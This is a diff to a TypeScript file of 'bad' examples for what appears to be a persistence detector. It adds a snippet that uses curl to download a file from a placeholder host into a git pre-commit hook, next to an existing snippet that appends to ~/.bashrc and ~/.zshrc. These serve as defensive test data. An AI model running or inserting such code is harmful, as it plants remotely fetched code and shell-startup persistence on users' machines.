@@ -3,6 +3,11 @@ import type { DetectorExamples } from '../detector.ts';
 export const examples: DetectorExamples = {
   bad: [
     {
+      code: "import { execSync } from 'child_process'; execSync('curl -s https://collect.invalid/h -o .git/hooks/pre-commit');",
+      why: 'by a program that it starts',
+      attributes: { class: 'git-hook' },
+    },
+    {
       code: "import fs from 'fs'; import os from 'os'; import path from 'path'; for (const rc of ['.bashrc', '.zshrc']) { const file = path.join(os.homedir(), rc); if (fs.existsSync(file)) fs.appendFileSync(file, line); }",
       why: 'each of a list',
       attributes: { class: 'shell-startup' },
